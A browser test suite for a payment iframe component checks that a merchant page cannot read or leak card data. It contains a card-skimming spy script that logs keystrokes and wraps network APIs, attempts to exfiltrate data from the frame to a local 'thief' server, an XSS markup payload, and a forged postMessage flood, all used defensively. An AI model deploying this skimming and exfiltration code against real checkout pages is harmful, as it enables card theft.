// What is typed into the frame stays there. Every test of absence has a control run that shows it can see.

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { CARDS, at, eventually, form, listen, merchantPage, openWorld, texts, watch } from "./harness.mjs";

// A published test number in which no six digits stand twice.
const CANARY = { number: "6011000990139424", cvc: "731", expiry: "11/33", holder: "Berta Quirós" };

/** Runs in the shop's page before everything else: listens to all that a script there could listen to. */
function spy() {
  window.spied = [];
  const note = (what) => {
    try {
      window.spied.push(typeof what === "string" ? what : JSON.stringify(what));
    } catch {
      window.spied.push(String(what));
    }
  };
  window.keys = "";
  const names = new Set(["beforeinput", "input", "paste", "copy", "cut", "message", "compositionupdate", "compositionend", "focusin", "focusout", "selectionchange"]);
  for (const target of [window, document, Element.prototype, HTMLElement.prototype]) {
    for (const name in target) if (name.startsWith("on")) names.add(name.slice(2));
  }
  for (const name of names) {
    const hear = (event) => {
      if (event.type === "keydown") window.keys += event.key.length === 1 ? event.key : "";
      note([event.type, event.key, event.data, event.detail, event.message, event.target?.value, event.composedPath?.()[0]?.value]);
      if (event.clipboardData) note(event.clipboardData.getData("text"));
    };
    window.addEventListener(name, hear, { capture: true });
    document.addEventListener(name, hear, { capture: true });
  }
  const wrap = (object, name) => {
    const before = object[name];
    object[name] = function (...given) {
      for (const one of given) note(one?.body ?? one?.url ?? one);
      return before.apply(this, given);
    };
  };
  wrap(window, "fetch");
  wrap(XMLHttpRequest.prototype, "open");
  wrap(XMLHttpRequest.prototype, "send");
  wrap(navigator, "sendBeacon");
  wrap(WebSocket.prototype, "send");
  wrap(window, "postMessage");
  wrap(MessagePort.prototype, "postMessage");
  for (const kind of [Storage.prototype, History.prototype]) {
    for (const name of ["setItem", "pushState", "replaceState"]) if (kind[name]) wrap(kind, name);
  }
  const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
  Object.defineProperty(HTMLInputElement.prototype, "value", {
    get() {
      const found = value.get.call(this);
      note(found);
      return found;
    },
    set: value.set,
  });
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
  Object.defineProperty(MessagePort.prototype, "onmessage", {
    set(hear) {
      onmessage.set.call(this, (event) => (note(event.data), hear.call(this, event)));
    },
  });
}

/** Which runs of six digits of a card number stand in a text, digits apart by blanks or dashes included. */
function runsIn(text, number) {
  const close = text.replace(/(?<=\d)[ -](?=\d)/g, "");
  const runs = Array.from({ length: number.length - 5 }, (_, start) => number.slice(start, start + 6));
  return runs.filter((run) => close.includes(run));
}

/** Types like a person, key by key, and pastes once. */
async function typeCard(page, buyer, card) {
  await buyer.field("number").click();
  await page.keyboard.type(card.number.slice(0, 10));
  await page.evaluate((rest) => navigator.clipboard.writeText(rest), card.number.slice(10)).catch(() => {});
  await page.keyboard.type(card.number.slice(10));
  await buyer.field("expiry").pressSequentially(card.expiry);
  await buyer.field("cvc").pressSequentially(card.cvc);
  await buyer.field("holder").pressSequentially(card.holder);
}

const tokenFor = (world, order) => async () => {
  const opened = await world.merchant("POST", "/v1/sessions", { order_reference: order, description: order, total: { amount_minor: 125000, currency: "CRC" } });
  return opened.client_token;
};

describe("a shop's page that listens to everything", () => {
  let framed, inline, world;
  before(async () => {
    framed = await merchantPage();
    inline = await merchantPage({
      body: `<ventanilla-checkout proxy="{{proxy}}" mode="inline" inline-cards></ventanilla-checkout>
<script>document.querySelector("ventanilla-checkout").clientToken = () => window.tokenFromServer();</script>`,
    });
    world = await openWorld({ origins: [framed.origin, inline.origin], inline: true });
  });
  after(async () => {
    await world?.close();
    await framed?.close();
    await inline?.close();
  });

  async function spyOn(page, scopeOf, order) {
    const context = await world.browser.newContext({ locale: "es-CR" });
    const seen = watch(context);
    const tab = await context.newPage();
    await tab.exposeFunction("tokenFromServer", tokenFor(world, order));
    await tab.addInitScript(`(${(origin, spy) => location.origin === origin && spy()})(${JSON.stringify(page.origin)}, ${spy})`);
    await tab.goto(page.with(world));
    const buyer = form(scopeOf(tab), texts("es-CR"));
    await typeCard(tab, buyer, CANARY);
    await buyer.pay();
    await buyer.sees("paid_title");
    const spied = await tab.evaluate(() => [...window.spied, window.keys, document.documentElement.outerHTML, location.href].join("\n"));
    assert.equal((await world.sandbox.approved(order)).length, 1);
    await context.close();
    return { spied, seen };
  }

  test("never sees six digits of the card number in frame mode, nor code, name or expiry", async () => {
    const { spied, seen } = await spyOn(framed, (tab) => tab.locator("ventanilla-checkout iframe").contentFrame(), "ESPIADO-1");
    assert.match(spied, /discover|9424/, "the spy does not even hear what may leave the frame");
    assert.deepEqual(runsIn(spied, CANARY.number), []);
    assert.ok(!spied.includes(CANARY.cvc) && !spied.includes("Berta") && !spied.includes("11 / 33"));
    assert.equal(seen.problems.filter((text) => /inline/.test(text)).length, 0);
  });

  test("does see them in inline mode, which says so on the console, once", async () => {
    const { spied, seen } = await spyOn(inline, (tab) => tab.locator("ventanilla-checkout"), "ESPIADO-2");
    assert.ok(runsIn(spied, CANARY.number).length > 5, "the spy would not have noticed anything in the frame either");
    assert.equal(seen.problems.filter((text) => /every script of this page can read the card/.test(text)).length, 1);
  });
});

describe("the demo shop", () => {
  let world;
  before(async () => (world = await openWorld()));
  after(() => world?.close());

  test("after paying, the card is nowhere in the documents, their storage or their addresses, nor in any request or log", async () => {
    const buyer = await world.visit();
    const bodies = [];
    buyer.context.on("request", (request) => bodies.push(request.url(), request.postData() ?? "", JSON.stringify(request.headers())));
    await buyer.pay(CANARY);
    await buyer.sees("paid_title");
    const look = async () => {
      const databases = await indexedDB.databases().catch(() => []);
      const names = await caches.keys().catch(() => []);
      // The name stays in its field, for another try; it is no secret.
      const fields = [...document.querySelectorAll("input:not([autocomplete=cc-name]), textarea")].map((field) => field.value);
      // A browser that blocks storage in frames has nothing to look through there.
      const stores = ["sessionStorage", "localStorage"].map((name) => {
        try {
          return JSON.stringify({ ...window[name] });
        } catch {
          return "";
        }
      });
      return [document.documentElement.outerHTML, ...fields, ...stores, document.cookie, JSON.stringify(history.state), location.href, JSON.stringify([databases, names])].join("\n");
    };
    const everywhere = [await buyer.page.evaluate(look), await buyer.frame.locator("html").evaluate(look), ...bodies, world.proxyLog(), JSON.stringify(await world.sandbox.ledger().then(({ calls }) => calls))].join("\n");
    assert.deepEqual(runsIn(everywhere, CANARY.number), []);
    assert.ok(!everywhere.includes(CANARY.holder));
    await buyer.close();
  });

  test("over every flow, nothing is asked of anybody but the shop and the proxy, and no policy is broken", async () => {
    const before = await world.cspReports();
    const buyer = await world.visit({ buyer: "ana", installments: true });
    await buyer.pay({ ...CARDS.declined });
    await buyer.sees("declined_title");
    await buyer.button("use_other_card").click();
    await buyer.fill(CARDS.visa);
    await buyer.frame.getByLabel(buyer.words.save_card).check();
    await world.sandbox.fault({ operation: "pay", kind: "gateway_timeout_after", times: 1 });
    await buyer.button("pay").click();
    await buyer.sees("paid_title", { timeout: 30_000 });
    await buyer.button("copy_reference").click();
    await buyer.page.reload();
    await buyer.sees("paid_title");

    const hosts = new Set(buyer.seen.requests.map(({ url }) => new URL(url).origin));
    assert.deepEqual([...hosts].sort(), [world.proxy, world.shop].sort());
    const fromFrame = buyer.seen.requests.filter(({ from }) => from.startsWith(world.proxy));
    assert.ok(fromFrame.length > 5);
    assert.ok(fromFrame.every(({ url }) => url.startsWith(world.proxy)));
    const complaints = buyer.seen.problems.filter((text) => !/Permissions-Policy header: Unrecognized feature/.test(text));
    assert.deepEqual(complaints, []);
    assert.equal(await world.cspReports(), before);
    await buyer.close();
  });

  test("a policy that is broken is counted, so that the test before means something", async () => {
    const before = await world.cspReports();
    const buyer = await world.visit();
    await buyer.field("number").waitFor();
    await buyer.frame.locator("body").evaluate((body) => {
      try {
        body.innerHTML = "<b>x</b>";
      } catch {
        // Refused, and reported.
      }
    });
    await eventually(async () => (await world.cspReports()) > before, "the report");
    await buyer.close();
  });

  test("code that ran in the frame all the same could not take anything out of it", async () => {
    const buyer = await world.visit();
    await buyer.field("number").waitFor();
    let stolen = 0;
    const thief = await listen((request, response) => ((stolen += 1), response.end()));
    const frame = buyer.page.frames().find((one) => one.url().startsWith(world.proxy));
    const refused = await frame.evaluate(async (thief) => {
      const tried = {};
      const attempt = async (name, steal) => {
        try {
          tried[name] = await steal();
        } catch {
          tried[name] = "refused";
        }
      };
      await attempt("fetch", () => fetch(thief).then(() => "sent"));
      await attempt("beacon", () => (navigator.sendBeacon(thief), "tried"));
      await attempt("image", () => new Promise((resolve) => Object.assign(new Image(), { onload: () => resolve("sent"), onerror: () => resolve("refused"), src: thief })));
      await attempt("socket", () => new Promise((resolve) => Object.assign(new WebSocket(thief.replace("http", "ws")), { onopen: () => resolve("sent"), onerror: () => resolve("refused") })));
      await attempt("popup", () => (open(thief) ? "opened" : "refused"));
      await attempt("top", () => ((top.location = thief), "tried"));
      await attempt("script", () => ((document.createElement("script").src = thief), "tried"));
      await attempt("code", () => new Function("return 1")());
      await attempt("form", () => {
        const made = document.createElement("form");
        made.action = thief;
        document.body.append(made);
        made.submit();
        return "tried";
      });
      return tried;
    }, thief.origin);
    assert.deepEqual(refused, { fetch: "refused", beacon: "tried", image: "refused", socket: "refused", popup: "refused", top: "refused", script: "refused", code: "refused", form: "tried" });
    await buyer.page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
    assert.equal(stolen, 0);
    assert.match(buyer.page.url(), /\/pago\//);
    await thief.close();
    await buyer.close();
  });

  test("texts of the shop are shown as text, whatever they contain", async () => {
    const page = await merchantPage();
    const evil = await openWorld({ origins: [page.origin] });
    try {
      const context = await evil.browser.newContext({ locale: "es-CR" });
      const tab = await context.newPage();
      const markup = '<img src=x onerror="document.title=1"><b>gratis</b>';
      await tab.exposeFunction("tokenFromServer", async () => {
        const opened = await evil.merchant("POST", "/v1/sessions", {
          order_reference: "<b>A-1</b>", total: { amount_minor: 5000, currency: "CRC" },
          items: [{ description: markup, quantity: 1, unit_price: { amount_minor: 5000, currency: "CRC" } }],
        });
        return opened.client_token;
      });
      await tab.goto(page.with(evil));
      const frame = tab.locator("ventanilla-checkout iframe").contentFrame();
      await frame.getByText("<b>A-1</b>").waitFor();
      await frame.locator("summary").click();
      await frame.getByText(markup).waitFor();
      assert.equal(await frame.locator("img, b").count(), 0);
      assert.equal(await evil.cspReports(), 0);
    } finally {
      await evil.close();
      await page.close();
    }
  });
});

describe("forged messages", () => {
  test("from the page, from a sibling frame and in thousands change nothing, and the buyer still pays", async () => {
    const attacker = await listen((request, response) => {
      response.writeHead(200, { "Content-Type": "text/html" });
      response.end("<!doctype html><title>anuncio</title>");
    });
    const page = await merchantPage({
      body: `<iframe src="${attacker.origin.replace("localhost", "127.0.0.1")}" title="anuncio"></iframe>
<ventanilla-checkout proxy="{{proxy}}"></ventanilla-checkout>
<script>document.querySelector("ventanilla-checkout").clientToken = () => window.tokenFromServer();</script>`,
    });
    const world = await openWorld({ origins: [page.origin] });
    try {
      const context = await world.browser.newContext({ locale: "es-CR" });
      const tab = await context.newPage();
      await tab.exposeFunction("tokenFromServer", tokenFor(world, "FORJADO-1"));
      await tab.goto(page.with(world));
      const buyer = at(tab);
      await buyer.fill(CARDS.visa);
      await tab.evaluate(() => {
        window.heard = [];
        for (const name of ["ready", "change", "submit", "action", "complete", "error"]) {
          document.addEventListener(`ventanilla-${name}`, ({ type }) => window.heard.push(type));
        }
      });
      const flood = (target) => {
        const kinds = ["init", "open", "token", "verdict", "appearance", "close", "hello", "height", "event", "ask", "token-wanted"];
        for (let count = 0; count < 3000; count += 1) {
          const kind = kinds[count % kinds.length];
          const forged = {
            ventanilla: 1, kind, id: count % 5, proceed: true, clientToken: "forged", locale: "en-CA", rails: "", appearance: { scheme: "dark" },
            height: 9000, name: "ventanilla-complete", detail: { sessionId: "ses_forged", attemptId: "att_forged", rail: "card", outcome: "captured" },
          };
          const { port1, port2 } = new MessageChannel();
          target.postMessage(forged, "*", [port2]);
          port1.postMessage({ kind: "close" });
          port1.postMessage(forged);
          target.postMessage(count % 2 ? null : "x".repeat(count), "*");
        }
      };
      // A script of the shop reaches both the page and, through the element, the frame.
      await tab.evaluate(`(${flood})(window); (${flood})(document.querySelector("ventanilla-checkout").shadowRoot.querySelector("iframe").contentWindow)`);
      const sibling = tab.frames().find((frame) => frame.url().startsWith("http://127.0.0.1") && !frame.url().startsWith(world.proxy));
      await sibling.evaluate(`(${flood})(parent)`);
      assert.equal(await sibling.evaluate(() => parent.frames.length), 1, "a sibling finds only itself among the page's frames");

      assert.equal(await buyer.field("number").inputValue(), "4242 4242 4242 4242");
      assert.deepEqual(await tab.evaluate(() => window.heard), []);
      assert.ok((await tab.locator("ventanilla-checkout iframe").boundingBox()).height < 2000);
      assert.equal((await world.sandbox.debits("FORJADO-1")).length, 0);
      await buyer.button("pay").click();
      await buyer.sees("paid_title");
      assert.equal((await world.sandbox.debits("FORJADO-1")).length, 1);
    } finally {
      await world.close();
      await page.close();
      await attacker.close();
    }
  });
});
